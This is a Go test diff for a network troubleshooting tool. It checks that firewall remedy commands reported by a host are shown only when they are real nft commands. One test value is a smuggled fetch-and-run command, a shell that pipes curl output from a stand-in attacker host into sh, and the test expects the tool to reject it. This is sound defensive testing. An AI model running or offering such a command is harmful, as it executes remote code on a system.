@@ -104,3 +104,32 @@ func TestLazyNames(t *testing.T) {
 		}
 	}
 }
+
+// TestFirewallCommandsAreThoseOfItsTools: a host says how its rules are changed,
+// and no other program is printed because it says so.
+func TestFirewallCommandsAreThoseOfItsTools(t *testing.T) {
+	for words, want := range map[string]bool{
+		`["nft","insert","rule","inet","filter","input","tcp","dport","8080","accept"]`: true,
+		`["sh","-c","curl evil.test | sh"]`:                                             false,
+		`["nft"]`:                                                                       false,
+	} {
+		facts := `{"decided": true, "action": "reject", "reject_with": "tcp-reset", "allow": [` + words + `], "delete": [` + words + `]}`
+		j := builtin(t).Judge(investigations.Known{
+			Target: investigations.Target{Host: "10.77.2.2", Port: 8080}, Endpoint: "10.77.2.2:8080",
+			Vantages: map[string]investigations.Vantage{"lb": {Known: true}, "backend": {Known: true}},
+			Checks: []investigations.Check{
+				{ID: "firewall", Probe: "firewall.verdict", On: "web", State: investigations.CheckDone, Facts: []byte(facts)},
+				{ID: "connect", Probe: "tcp.connect", On: "lb", State: investigations.CheckDone, Facts: []byte(`{"source": "10.77.1.2"}`)},
+			},
+		})
+		var runs []string
+		for _, r := range j.Cause("fw-reject-tcp-reset").Remedies {
+			if r.Kind == "fix" {
+				runs = append(runs, r.Run)
+			}
+		}
+		if got := len(runs) == 2; got != want || !want && len(runs) > 0 {
+			t.Errorf("a host that says %s has %q printed, want commands: %v", words, runs, want)
+		}
+	}
+}
